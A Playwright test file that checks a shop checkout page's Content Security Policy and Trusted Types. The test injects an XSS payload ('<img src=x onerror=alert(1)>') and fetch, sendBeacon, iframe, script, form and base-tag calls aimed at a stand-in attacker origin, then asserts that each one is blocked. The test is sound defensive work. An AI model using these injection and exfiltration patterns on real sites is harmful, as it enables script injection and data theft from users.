import { openCheckout } from '../fixtures/buyer.ts'
import { expect, test } from '../fixtures/cross-site-stack.ts'

test('a script in the shop’s page cannot load, run, frame, or send anything cross-origin', {
  tag: '@firefox',
}, async ({ page, attacker, pageErrors }) => {
  pageErrors.allow(/./)
  await openCheckout(page)
  attacker.respond = () => ({ headers: { 'content-type': 'text/javascript' }, body: 'x' })
  await page.evaluate(async (origin) => {
    const violations: string[] = []
    Object.assign(window, { violations })
    addEventListener('securitypolicyviolation', ({ effectiveDirective, blockedURI }) =>
      violations.push(
        `${effectiveDirective} ${blockedURI.replace(origin, 'attacker').replace(/\?$/, '')}`,
      ),
    )
    const add = <Name extends keyof HTMLElementTagNameMap>(name: Name, fields: object) => {
      const element = Object.assign(document.createElement(name), fields)
      document.body.append(element)
      return element
    }
    const attempts: (() => unknown)[] = [
      async () => {
        // In a separate task: code that Playwright evaluates has more rights.
        await new Promise((resolve) => setTimeout(resolve))
        violations.push(`ran ${new Function('return 1')()}`)
      },
      () => add('script', { src: `${origin}/s.js` }),
      () => document.body.insertAdjacentHTML('beforeend', '<img src=x onerror=alert(1)>'),
      () => add('iframe', { src: `${origin}/f` }),
      () => add('img', { src: `${origin}/i` }),
      () => fetch(`${origin}/c`).catch(() => {}),
      () => navigator.sendBeacon(`${origin}/b`, 'x'),
      () => new EventSource(`${origin}/e`),
      () => add('form', { action: `${origin}/form` }).submit(),
      () => add('base', { href: origin }),
    ]
    for (const attempt of attempts) {
      try {
        await attempt()
      } catch {
        // Trusted Types throw: nothing happened.
      }
    }
  }, attacker.origin)
  // One for each attempt.
  const expected = [
    'base-uri attacker/',
    'connect-src attacker/b',
    'connect-src attacker/c',
    'connect-src attacker/e',
    'form-action attacker/form',
    'frame-src attacker',
    'img-src attacker/i',
    'require-trusted-types-for trusted-types-sink',
    'require-trusted-types-for trusted-types-sink',
    'require-trusted-types-for trusted-types-sink',
  ]
  await expect
    .poll(() => page.evaluate(() => Reflect.get(window, 'violations').sort()))
    .toEqual(expected)
  // A request that was sent would have arrived before this one.
  await fetch(`http://127.0.0.1:${attacker.port}/end`)
  expect(attacker.requests.map(({ path }) => path)).toEqual(['/end'])
})
